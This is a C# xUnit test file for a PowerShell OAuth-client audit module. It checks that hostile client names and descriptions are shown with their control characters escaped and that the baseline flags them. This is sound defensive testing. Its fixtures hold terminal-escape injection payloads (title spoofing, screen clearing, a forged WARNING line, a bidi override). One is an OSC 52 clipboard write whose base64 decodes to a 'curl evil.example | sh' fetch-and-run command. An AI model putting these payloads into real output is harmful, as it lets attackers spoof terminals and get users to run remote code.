using System;
using System.IO;
using System.Linq;
using Newtonsoft.Json.Linq;
using Xunit;

namespace OAuthAudit.Module.Tests
{
    /// <summary>
    /// Org-supplied text with terminal escapes (OSC 0 set-title, OSC 52 clipboard write, ESC[2J, CR/LF forging a
    /// WARNING line, a bidi override) reaches the console, warnings, verbose lines and errors only with its control
    /// characters made visible; the objects keep the raw value, and the built-in baseline flags the client.
    /// </summary>
    public sealed class HostileTextTests : IDisposable
    {
        private const string EvilName = "evil\u001b]0;pwned\u0007\u001b[2J\r\nWARNING: all clear";
        private const string EvilDescription = "copy \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 \u202edcba\u2066";
        private const string EvilId = "0f0f0f0f-0000-4000-8000-00000000e711";

        private static readonly char[] Hidden = { '\u001b', '\u0007', '\r', '\u202e', '\u2066' };

        private readonly string _folder = Path.Combine(Path.GetTempPath(), "oauthaudit-hostile-" + Guid.NewGuid().ToString("N"));
        private readonly PowerShellSession _shell = new PowerShellSession();

        public HostileTextTests()
        {
            Directory.CreateDirectory(_folder);
            var snapshot = JObject.Parse(File.ReadAllText(RepositoryPaths.DemoSnapshot));
            snapshot["clients"]!.Value<JArray>()!.Add(JObject.FromObject(new
            {
                id = EvilId,
                name = EvilName,
                description = EvilDescription,
                authorizedGrantType = "CODE",
                state = "active",
                accessTokenValiditySeconds = 172800,
                registeredRedirectUri = new[] { "https://app.example.com/cb" },
                scope = new[] { "users:readonly" },
                dateCreated = "2026-01-02T03:04:05Z",
            }));
            File.WriteAllText(Path.Combine(_folder, "hostile.json"), snapshot.ToString());
            File.WriteAllText(Path.Combine(_folder, "waivers.yml"), $"""
                apiVersion: oauthaudit/v1
                kind: Baseline
                metadata:
                  name: "waivers \e[2J"
                spec:
                  rules:
                    - id: R-TOKEN
                      description: Tokens live a day at most.
                      severity: Medium
                      maxAccessTokenValiditySeconds: 86400
                  waivers:
                    - client: {EvilId}
                      ruleId: R-TOKEN
                      rationale: Old.
                      expiresOn: 2020-01-01
                    - client: Somebody Not Audited
                      ruleId: R-TOKEN
                      rationale: Old too.
                      expiresOn: 2020-01-01
                """.Replace("\\e", "\\x1b"));
            _shell.Run("$ExecutionContext.SessionState.Path.SetLocation($folder) | Out-Null; Connect-GcOrganization -SnapshotPath ./hostile.json | Out-Null", new() { ["folder"] = _folder }).ThrowIfFailed();
        }

        public void Dispose()
        {
            _shell.Dispose();
            Directory.Delete(_folder, recursive: true);
        }

        [Fact]
        public void The_client_object_keeps_the_raw_name_and_description()
        {
            var client = Assert.Single(_shell.Run("Get-GcOAuthClient -Id $id", new() { ["id"] = EvilId }).ThrowIfFailed().Output);

            Assert.Equal(EvilName, client.Properties["Name"].Value);
            Assert.Equal(EvilDescription, client.Properties["Description"].Value);
            Assert.Equal(@"evil\x1b]0;pwned\x07\x1b[2J\x0d\x0aWARNING: all clear", client.ToString());
        }

        [Theory]
        [InlineData("Get-GcOAuthClient -Id $id | Out-Default", 120)]
        [InlineData("Get-GcOAuthClient -Id $id | Out-Default", 80)]
        [InlineData("Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope | Out-Default", 120)]
        [InlineData("Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope -Expand | Out-Default", 120)]
        [InlineData("(Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope).Findings | ForEach-Object Message | Out-Default", 120)]
        [InlineData("Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope | ForEach-Object { $_.ToString(); $_.Findings.ToString() } | Out-Default", 120)]
        public void Views_and_messages_show_no_control_characters(string script, int width)
        {
            _shell.Run($"$Host.UI.RawUI.BufferSize = [System.Management.Automation.Host.Size]::new({width}, 9999)").ThrowIfFailed();
            _shell.Run(script, new() { ["id"] = EvilId }).ThrowIfFailed();

            var text = _shell.Host.Text;
            Assert.Contains(@"evil\x1b]0;pwned", text);
            AssertNoHiddenCharacters(text);
        }

        [Fact]
        public void The_built_in_baseline_flags_the_name_and_the_description_as_suspicious_text()
        {
            var result = _shell.Run("Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope -Expand | Where-Object Kind -eq SuspiciousText", new() { ["id"] = EvilId }).ThrowIfFailed();

            Assert.Equal(new[] { "GC-010 Medium Name", "GC-010 Medium Description" },
                result.Output.Select(finding => $"{finding.Properties["RuleId"].Value} {finding.Properties["Severity"].Value} {finding.Properties["Subject"].Value}").ToArray());
            var message = (string)result.Output[0].Properties["Message"].Value;
            Assert.StartsWith(@"'evil\x1b]0;pwned\x07\x1b[2J\x0d\x0aWARNING: all clear' has control or format characters in its name", message);
            Assert.Equal(EvilName, result.Output[0].Properties["ClientName"].Value);
            AssertNoHiddenCharacters(string.Join("\n", result.Output.Select(finding => (string)finding.Properties["Message"].Value)));
        }

        [Fact]
        public void Warnings_verbose_lines_and_errors_show_no_control_characters()
        {
            var audit = _shell.Run("Get-GcOAuthClient -Id $id | Test-GcOAuthClientScope -Baseline ./waivers.yml -Verbose", new() { ["id"] = EvilId }).ThrowIfFailed();
            var missing = _shell.Run("Get-GcOAuthClient -Name ($name + ' 2'); Get-GcOAuthClient -Id $name", new() { ["name"] = EvilName });
            var found = _shell.Run("Get-GcOAuthClient -Name $name", new() { ["name"] = EvilName }).ThrowIfFailed();
            var assert = _shell.Run("Get-GcOAuthClient -Id $id | Assert-GcOAuthClientScope -FailOn Medium", new() { ["id"] = EvilId });

            var warning = Assert.Single(audit.Warnings);
            Assert.Equal($"The waiver of R-TOKEN for '{EvilId}' expired on 2020-01-01 and no longer applies ({Path.Combine(_folder, "waivers.yml")}).", warning);
            Assert.Contains(audit.Verbose, line => line.Contains(@"waivers \x1b[2J", StringComparison.Ordinal));
            Assert.Contains(audit.Progress, progress => progress.Activity.Contains(@"waivers \x1b[2J", StringComparison.Ordinal));
            Assert.All(audit.Progress, progress => AssertNoHiddenCharacters(progress.Activity + progress.StatusDescription));
            Assert.Equal(EvilId, Assert.Single(found.Output).Properties["Id"].Value);
            Assert.Equal(new[] { "ClientNotFound", "ClientNotFound" }, missing.Errors.Select(error => error.FullyQualifiedErrorId.Split(',')[0]));
            Assert.NotNull(assert.Terminating);
            var shown = audit.Verbose.Concat(audit.Warnings)
                .Concat(missing.Errors.Concat(new[] { assert.Terminating! }).Select(error => error.ErrorDetails?.Message ?? error.ToString()))
                .ToArray();
            Assert.Contains(shown, line => line.Contains(@"evil\x1b]0;pwned", StringComparison.Ordinal));
            AssertNoHiddenCharacters(string.Join("\n", shown));
            Assert.All(missing.Errors.Concat(new[] { assert.Terminating! }), error => AssertNoHiddenCharacters(error.ToString()));
        }

        private static void AssertNoHiddenCharacters(string text)
        {
            foreach (var character in Hidden)
            {
                Assert.False(text.Contains(character), $"U+{(int)character:X4} reached the screen: {text.Replace("\u001b", "<ESC>")}");
            }
        }
    }
}
